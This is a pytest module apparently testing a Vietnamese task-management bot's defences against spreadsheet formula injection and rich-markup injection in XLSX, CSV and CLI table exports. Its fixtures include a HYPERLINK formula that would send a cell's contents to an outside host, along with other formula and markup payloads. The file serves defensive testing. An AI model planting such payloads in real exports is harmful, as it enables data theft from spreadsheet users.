"""Exports and tables hold text as text (issue 10, item 3).

A task title or unit name that looks like a spreadsheet formula is a string cell in every workbook the
program writes (`troly tasks summary --xlsx`, the /summary workbook of the chat), read back unchanged and
with no `<f>` element in the sheet XML; a title holding rich markup (`[/]`, `[bold]`) is printed literally by
the CLI tables instead of crashing them. Through the real CLI and the real databases (SQLite, PostgreSQL).
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date
from pathlib import Path

from click.testing import CliRunner
from fakes import HN_LEADER, TODAY, make_services
from openpyxl import load_workbook
from rich.console import Console
from sqlalchemy import select, update

from bot.cli import cli
from bot.console import run_console
from bot.render.text import sync_report_table
from db.models import Feedback, Official, Task, TaskStatus, Unit
from db.session import Database
from ingestion.errors import IngestError
from ingestion.sync import SyncReport

FORMULA_LIKE = [
    '=HYPERLINK("http://x?d="&A1,"bấm")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
]
MARKUP = ["[/]", "[bold]đậm[/bold]", "Báo cáo [red]gấp[/red] \\"]
UNIT_NAME = "=1+1 [bold]Phường Hoàn Kiếm[/bold]"  # HN-HOANKIEM
CITY_NAME = "@Thành phố [/] Hà Nội"  # HN
AS_OF = "2026-11-20"


def cli_run(url: str, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args), env={"DATABASE_URL": url}, catch_exceptions=False)
    return result.exit_code, result.output


def hostile_tasks(url: str, tmp_path: Path) -> dict[str, str]:
    """Hostile titles on overdue tasks of HN-HOANKIEM (imported through the CLI, or, for what the importer
    trims — a leading tab or carriage return — written to the database), and a formula-like unit name."""
    titles = FORMULA_LIKE + MARKUP
    lines = ["code,title,lead_unit,deadline,status"]
    for i, title in enumerate(titles):
        quoted = '"' + title.replace('"', '""') + '"'
        lines.append(f"X-{i},{quoted},HN-HOANKIEM,01/10/2026,Đang thực hiện")
    path = tmp_path / "hostile.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, out = cli_run(url, "tasks", "import", str(path))
    assert code == 0, out
    wanted = {f"X-{i}": title for i, title in enumerate(titles)}
    db = Database(url)
    try:
        with db.session() as s:
            trimmed = {"X-T": "\t=1+2", "X-R": "\r=3+4", "X-C": "-1\x07bell"}
            unit_id = s.scalar(select(Unit.id).where(Unit.code == "HN-HOANKIEM"))
            for code_, title in trimmed.items():
                s.add(
                    Task(
                        code=code_,
                        title=title,
                        lead_unit_id=unit_id,
                        deadline=date(2026, 10, 2),
                        status=TaskStatus.OPEN,
                    )
                )
            s.execute(update(Unit).where(Unit.code == "HN-HOANKIEM").values(name=UNIT_NAME))
            s.execute(update(Unit).where(Unit.code == "HN").values(name=CITY_NAME))
        with db.session() as s:  # what the database holds is what a workbook must show
            stored = {c: t for c, t in s.execute(select(Task.code, Task.title).where(Task.code.in_(trimmed)))}
    finally:
        db.dispose()
    assert stored["X-T"].startswith("\t") and stored["X-R"].startswith("\r")
    wanted |= stored
    wanted["X-C"] = "-1bell"  # a control character XML cannot hold is dropped, the rest kept
    return wanted


def assert_text_only(data: bytes, titles: dict[str, str]) -> None:
    """No formula anywhere; each hostile title a string cell equal to the title; the unit name too."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 3  # summary, overdue, due in 30 days
        for name in sheets:
            xml = z.read(name).decode()
            assert not re.search(r"<(\w+:)?f[ >/]", xml), name  # no formula element at all
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    summary, late, _due = wb.worksheets
    assert CITY_NAME in str(summary["A1"].value) and summary["A1"].data_type == "s"
    names = [c for c in summary["B"] if c.value == UNIT_NAME] + [c for c in late["C"] if c.value == UNIT_NAME]
    assert names and all(c.data_type == "s" for c in names)
    by_code = {row[0].value: row[1] for row in late.iter_rows(min_row=4)}  # rows 1–3: title, date, header
    for code, title in titles.items():
        cell = by_code[code]
        assert cell.value == title and cell.data_type == "s", (code, cell.value, cell.data_type)


def test_summary_workbook_from_the_cli_holds_titles_as_text(demo_url: str, tmp_path: Path) -> None:
    titles = hostile_tasks(demo_url, tmp_path)
    xlsx = tmp_path / "tonghop.xlsx"
    code, out = cli_run(demo_url, "tasks", "summary", "--unit", "HN", "--as-of", AS_OF, "--xlsx", str(xlsx))
    assert code == 0, out
    assert_text_only(xlsx.read_bytes(), titles)
    assert UNIT_NAME in out and CITY_NAME in out  # the rich table shows the unit names as typed


def test_summary_workbook_of_the_chat_holds_titles_as_text(
    sqlite_demo_db: Database, hermetic_env: Path, tmp_path: Path
) -> None:
    titles = hostile_tasks(sqlite_demo_db.url, tmp_path)
    services = make_services(sqlite_demo_db, hermetic_env)
    out = io.StringIO()
    run_console(
        services.settings, HN_LEADER, lines=io.StringIO("/tonghop\n"), out=out, services=services, clock=lambda: TODAY
    )
    saved = list((hermetic_env / "console").glob("*.xlsx"))
    assert len(saved) == 1, out.getvalue()
    assert_text_only(saved[0].read_bytes(), titles)


def test_cli_tables_print_markup_literally(demo_url: str, tmp_path: Path) -> None:
    titles = hostile_tasks(demo_url, tmp_path)
    code, out = cli_run(demo_url, "tasks", "overdue", "--unit", "HN-HOANKIEM", "--as-of", AS_OF)
    assert code == 0, out
    for title in MARKUP:
        assert title in out, title
    assert f"Nhiệm vụ quá hạn — {UNIT_NAME}" in out
    code, out = cli_run(demo_url, "tasks", "due", "--unit", "HN-HOANKIEM", "--days", "30", "--as-of", "2026-09-20")
    assert code == 0 and "[bold]đậm[/bold]" in out and "[/]" in out, out
    code, out = cli_run(demo_url, "tasks", "overdue", "--unit", "HN-HOANKIEM", "--as-of", AS_OF, "--json")
    assert code == 0 and {t["code"]: t["title"] for t in json.loads(out)}["X-5"] == "[/]"
    assert titles["X-5"] == "[/]"

    db = Database(demo_url)
    try:
        with db.session() as s:
            s.execute(update(Official).where(Official.full_name == HN_LEADER).values(full_name="[/] [bold]Lan[/bold]"))
    finally:
        db.dispose()
    code, out = cli_run(demo_url, "users", "list")
    assert code == 0 and "[/] [bold]Lan[/bold]" in out, out


def test_ingest_report_table_prints_file_names_and_reasons_literally() -> None:
    report = SyncReport(
        added=["[bold]moi[/bold].md"], failed=[("[/]hong.pdf", IngestError("ingest.cannot_read", error="[/red]"))]
    )
    console = Console(width=200, record=True)
    console.print(sync_report_table(report))
    text = console.export_text()
    assert "[bold]moi[/bold].md" in text and "[/]hong.pdf" in text and "không đọc được tệp: [/red]" in text


def test_feedback_csv_keeps_formula_like_questions_as_text(demo_url: str, tmp_path: Path) -> None:
    """The CSV export is meant to be opened in Excel, where a cell has no type: formula-like text gets
    Excel's text mark (a leading apostrophe); --json keeps the exact text."""
    questions = [*FORMULA_LIKE, "\t=1+2", "Hạn nộp báo cáo là ngày nào?"]
    db = Database(demo_url)
    try:
        with db.session() as s:
            official = s.scalar(select(Official.id).where(Official.full_name == HN_LEADER))
            for q in questions:
                s.add(
                    Feedback(
                        official_id=official,
                        channel="telegram",
                        question=q,
                        answer=q,
                        found=True,
                        citations=[],
                        vote=-1,
                    )
                )
    finally:
        db.dispose()
    path = tmp_path / "fb.csv"
    code, out = cli_run(demo_url, "feedback", "export", "--csv", str(path))
    assert code == 0, out
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["question"] for r in rows] == [f"'{q}" for q in questions[:-1]] + [questions[-1]]
    assert [r["answer"] for r in rows] == [r["question"] for r in rows] and {r["vote"] for r in rows} == {"-1"}
    code, out = cli_run(demo_url, "feedback", "export", "--json")
    assert [r["question"] for r in json.loads(out)] == questions


def test_units_and_invites_tables_print_markup_literally(db_url: str, tmp_path: Path) -> None:
    book = tmp_path / "don_vi.csv"
    book.write_text(
        "Mã đơn vị,Tên đơn vị,Mã đơn vị cấp trên,Cấp\n"
        "QT,[bold]Tỉnh[/bold] Quảng Trị,,Cấp tỉnh\n"
        'QT-X,"=1+1 [/] Xã \\",QT,Cấp xã\n',
        encoding="utf-8",
    )
    code, out = cli_run(db_url, "units", "import", str(book))
    assert code == 0, out
    code, out = cli_run(db_url, "units", "list")
    assert code == 0 and "[bold]Tỉnh[/bold] Quảng Trị" in out and "=1+1 [/] Xã \\" in out, out
    code, out = cli_run(db_url, "users", "invite", "--unit", "QT-X", "--role", "official", "--name", "[/] [red]Lan")
    assert code == 0, out
    code, out = cli_run(db_url, "invites", "list")
    assert code == 0 and "[/] [red]Lan" in out, out
